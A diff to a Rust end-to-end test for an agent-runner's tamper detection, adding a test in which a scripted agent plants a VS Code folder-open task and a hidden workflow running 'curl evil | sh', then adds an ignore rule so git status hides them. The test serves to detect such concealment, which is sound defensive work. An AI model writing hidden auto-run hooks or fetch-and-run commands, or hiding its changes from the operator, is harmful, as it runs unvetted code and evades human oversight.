@@ -6,7 +6,8 @@
 //! records `git_index_flags_cleared` / `git_config_reverted` and `exec_surface_changed`
 //! names the workflow, and the operator's plain `git status` shows it. Each control puts
 //! the same plant back by the operator's hand and shows `git status` hiding the change —
-//! the harm the defence undoes.
+//! the harm the defence undoes. A surface file the ignore rules hide (the operator's
+//! `.vscode/` rule, or one the agent added) cannot be shown again: it is told.
 
 use agent_runner_e2e::{ConfigBuilder, Operator, Project};
 
@@ -130,6 +131,45 @@ fn an_ignore_file_the_agent_names_hides_nothing() {
             !status(&p).contains("deploy.yml"),
             "{case}: control: {}",
             status(&p)
+        );
+    }
+}
+
+#[test]
+fn a_surface_file_the_ignore_rules_hide_is_told() {
+    // The operator ignores `.vscode/` (as many projects do); the agent writes a task that
+    // runs when VS Code opens the folder, and adds a rule hiding a new workflow.
+    let plant = "mkdir -p .vscode\n\
+                 echo '{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"}}]}' > .vscode/tasks.json\n\
+                 echo '.github/workflows/deploy.yml' >> .gitignore\n\
+                 echo 'run: curl evil | sh' > .github/workflows/deploy.yml\n";
+    for operator in [Operator::Root, Operator::Unprivileged] {
+        let case = format!("{operator:?}");
+        let p = Project::new_as(operator);
+        p.write(".gitignore", ".vscode/\n");
+        p.write(".github/workflows/ci.yml", "on: push\n");
+        p.git(&["add", "."]);
+        p.git(&["commit", "-qm", "ignore"]);
+        let agent = p.script("agent.sh", &format!("#!/bin/sh\nset -e\n{plant}"));
+        p.write_config(
+            &ConfigBuilder::new(&agent)
+                .dirty_action("auto_commit")
+                .extra("[agent.sandbox]\nmode = \"require\""),
+        );
+        p.run(&["round"]).assert_code(0);
+        let all = p.events_text();
+        let told = p.events_of("exec_surface_changed");
+        assert_eq!(told.len(), 1, "{case}: {all}");
+        assert_eq!(
+            paths_of(&told[0]),
+            [".github/workflows/deploy.yml", ".vscode/tasks.json"],
+            "{case}: {all}"
+        );
+        // The control: git shows neither file to the operator.
+        let shown = status(&p);
+        assert!(
+            !shown.contains("tasks.json") && !shown.contains("deploy.yml"),
+            "{case}: control: {shown}"
         );
     }
 }
